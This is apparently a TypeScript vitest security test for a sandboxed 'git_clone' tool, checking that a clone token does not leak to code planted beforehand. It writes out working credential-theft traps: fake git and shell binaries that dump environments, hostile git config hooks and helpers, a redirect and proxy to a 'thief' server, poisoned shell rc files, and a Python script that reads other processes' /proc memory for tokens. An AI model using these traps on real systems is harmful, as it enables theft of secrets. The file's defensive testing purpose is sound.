import { afterAll, describe, expect, it } from 'vitest'
import { aToolServer, type Task } from '../dialects/toolserver/support.ts'
import { type GitServer, startGitServer } from '../support/git-server.ts'

const TOKEN = 'tok-0123456789-abcdef-is-secret'
/** In every form in which git carries it. */
const FORMS = [TOKEN, Buffer.from(`x-access-token:${TOKEN}`).toString('base64')]

let git: (GitServer & { stop(): void }) | undefined
/** What a proxy of the task's, or the host that git was led to, was sent. */
let thief: (GitServer & { stop(): void }) | undefined
const server = aToolServer(async () => {
  git = await startGitServer({ tls: true, auth: `x-access-token:${TOKEN}` })
  thief = await startGitServer({ auth: 'any:thing' })
  const hosts = [git, thief].map(({ url }) => new URL(url).host)
  return { vars: { DANGEROUSLY_ALLOW_HOSTS: hosts[0] ?? '' }, allow: hosts, certificate: git.certificate }
})
afterAll(() => {
  git?.stop()
  thief?.stop()
})

const repository = () => `${git?.url}/project.git`
const inside = (url = '') => url.replace('127.0.0.1', 'host.sandbox.internal')

/** Where the traps put what they see. */
const LOOT = '/home/user/loot'
const SPY = `#!/bin/bash
{ env; cat /proc/$PPID/environ /proc/$PPID/cmdline; timeout 0.2 cat; } >> ${LOOT} 2>&1 </dev/stdin
`
/** Puts a program there that keeps what it sees, and does the real work then. */
const spyAt = (place: string) => `mkdir -p "$(dirname ${place})"; cat > ${place} <<'SPY'
${SPY}exec -a git /usr/bin/git "$@"
SPY
chmod +x ${place}`

/** Reads what it can of every process of its user, memory too, for as long as it lives. */
const WATCH = `cat > /home/user/watch.py <<'PY'
import os, re, time
needles = [b'x-access-token', b'Authorization: Basic']
own = os.getpid()
seen = set()
until = time.time() + 300
while time.time() < until:
    for pid in filter(str.isdigit, os.listdir('/proc')):
        if int(pid) == own: continue
        for name in ('environ', 'cmdline'):
            try: data = open(f'/proc/{pid}/{name}', 'rb').read()
            except OSError: continue
            if data not in seen:
                seen.add(data)
                open('${LOOT}', 'ab').write(data + b'\\n')
        try:
            if b'git' not in open(f'/proc/{pid}/comm', 'rb').read(): continue
            with open(f'/proc/{pid}/mem', 'rb', 0) as memory:
                for line in open(f'/proc/{pid}/maps'):
                    begin, end, mode = re.match('([0-9a-f]+)-([0-9a-f]+) (....)', line).groups()
                    if mode[:2] != 'rw': continue
                    try:
                        memory.seek(int(begin, 16))
                        data = memory.read(int(end, 16) - int(begin, 16))
                    except (OSError, ValueError): continue
                    for needle in needles:
                        for found in re.finditer(re.escape(needle), data):
                            open('${LOOT}', 'ab').write(data[found.start():found.start() + 200] + b'\\n')
        except OSError: continue
PY
setsid python3 /home/user/watch.py >/dev/null 2>&1 </dev/null & sleep 0.5`

/** What code of the task prepared before somebody clones with a token. */
const TRAPS: readonly (readonly [string, () => string])[] = [
  ['a git of its own first on the PATH', () => spyAt('/home/user/workspace/code_env/bin/git')],
  [
    'helpers of git by its names: sh, git-remote-https, git-upload-pack',
    () =>
      ['sh', 'bash', 'git-remote-https', 'git-upload-pack']
        .map((name) => spyAt(`/home/user/workspace/code_env/bin/${name}`))
        .join('\n'),
  ],
  [
    'a .gitconfig with programs: credential helper, askPass, sshCommand, fsmonitor, pager, hooks',
    () => `${spyAt('/home/user/spy')}
${spyAt('/home/user/hooks/post-checkout')}
${spyAt('/home/user/hooks/reference-transaction')}
git config --global credential.helper /home/user/spy
git config --global core.askPass /home/user/spy
git config --global core.sshCommand /home/user/spy
git config --global core.fsmonitor /home/user/spy
git config --global core.pager /home/user/spy
git config --global core.hooksPath /home/user/hooks
git config --global filter.spy.smudge /home/user/spy
echo '* filter=spy' > /home/user/attributes; git config --global core.attributesFile /home/user/attributes`,
  ],
  [
    'a template with hooks',
    () => `${spyAt('/home/user/template/hooks/post-checkout')}
git config --global init.templateDir /home/user/template`,
  ],
  [
    'a .gitconfig that leads the repository elsewhere',
    () => `git config --global url.${inside(thief?.url)}/.insteadOf ${git?.url}/
git config --global http.sslVerify false`,
  ],
  [
    'a proxy for all that git sends',
    () => `git config --global http.proxy ${inside(thief?.url)}
git config --global http.sslVerify false
git config --global http.proxyAuthMethod basic`,
  ],
  [
    'a .gitconfig that logs and keeps what is sent',
    () => `git config --global trace2.eventTarget ${LOOT}
git config --global trace2.envVars GIT_CONFIG_VALUE_1,TOOLYARD_GIT_PASSWORD
git config --global http.cookieFile /home/user/cookies; git config --global http.saveCookies true
git config --global credential.helper 'store --file=${LOOT}'`,
  ],
  [
    'files that shells and programs read first',
    () => `for file in .bash_profile .bashrc .profile .bash_login .bash_logout; do
  echo '{ env; cat /proc/$$/environ /proc/$PPID/environ; } >> ${LOOT} 2>/dev/null' > /home/user/$file; done
printf 'machine %s login x password y\\n' 127.0.0.1 > /home/user/.netrc
printf 'trace-ascii = ${LOOT}\\n' > /home/user/.curlrc
mkdir -p /home/user/workspace/code_env/lib; echo 'import os; open("${LOOT}","a").write(str(os.environ))' > /home/user/sitecustomize.py`,
  ],
  ['a process that reads environments, command lines and memory of all others', () => WATCH],
  [
    'a program in the place of where commands keep their state',
    () => `${WATCH}
while :; do cat /home/user/.toolyard/*.in /home/user/.toolyard/*.sh >> ${LOOT} 2>/dev/null; done >/dev/null 2>&1 </dev/null &`,
  ],
]

async function loot(task: Task): Promise<string> {
  const { stdout } = await task.shell(
    `cat ${LOOT} /home/user/.git-credentials /home/user/cookies 2>/dev/null | tr -d '\\0' | base64 -w0 | tail -c 60000`,
  )
  return Buffer.from(String(stdout), 'base64').toString('latin1')
}

describe('a token of git_clone is not seen by code of the task, which has prepared', () => {
  it.each(TRAPS)('%s', async (_, trap) => {
    const task = await server.task()
    await task.shell(trap())
    const before = git?.authorizations.length ?? 0
    const answer = await task.call('git_clone', { repo_url: repository(), token: TOKEN })
    expect(git?.authorizations.slice(before)).toContain(`x-access-token:${TOKEN}`)
    if (answer.success) expect(answer.data).toMatchObject({ commit: git?.commit, repo_url: repository() })
    else expect(answer.error).toMatch(/^Git clone failed: /) // by the task's own hooks and filters
    const seen = await loot(task)
    for (const form of FORMS) {
      expect(seen).not.toContain(form)
      expect(thief?.authorizations.join() ?? '').not.toContain(form)
      // The form itself in a command would be found by those that look at commands.
      const needle = `<(echo ${Buffer.from(form).toString('base64')} | base64 -d)`
      const { stdout } = await task.shell(`grep -rlaFf ${needle} /home/user /tmp 2>/dev/null; true`)
      expect(stdout).toBe('')
    }
  })
})

it('a private clone is one like any other: its branches, its origin without the token, its files', async () => {
  const task = await server.task()
  await task.done('git_clone', { repo_url: repository(), token: TOKEN })
  const { stdout } = await task.shell(
    'cd ~/workspace/upload/project && git remote get-url origin && git branch -a --format="%(refname)" && git tag && git fsck 2>&1 && cat README.md && git status --short && ls -A ~/.toolyard | grep -c "[.]in$"; true',
  )
  expect(stdout.split('\n').filter((line) => line !== '' && !line.startsWith('notice'))).toEqual([
    repository(),
    'refs/heads/main',
    'refs/remotes/origin/HEAD',
    'refs/remotes/origin/feature/x',
    'refs/remotes/origin/main',
    'refs/remotes/origin/submodule',
    'v1',
    '# Project',
    '0',
  ])
})

it('a submodule of what is cloned is asked for nothing, with or without the token', async () => {
  const task = await server.task()
  const before = thief?.authorizations.length
  const { clone_path } = await task.done('git_clone', { repo_url: repository(), token: TOKEN, branch: 'submodule' })
  expect(await task.read(`${clone_path}/.gitmodules`)).toContain('sub')
  const listing = await task.shell(`cd ~/workspace/${clone_path} && ls -A sub; ls .git/modules 2>/dev/null; true`)
  expect(listing.stdout).toBe('')
  expect(thief?.authorizations.length).toBe(before)
})
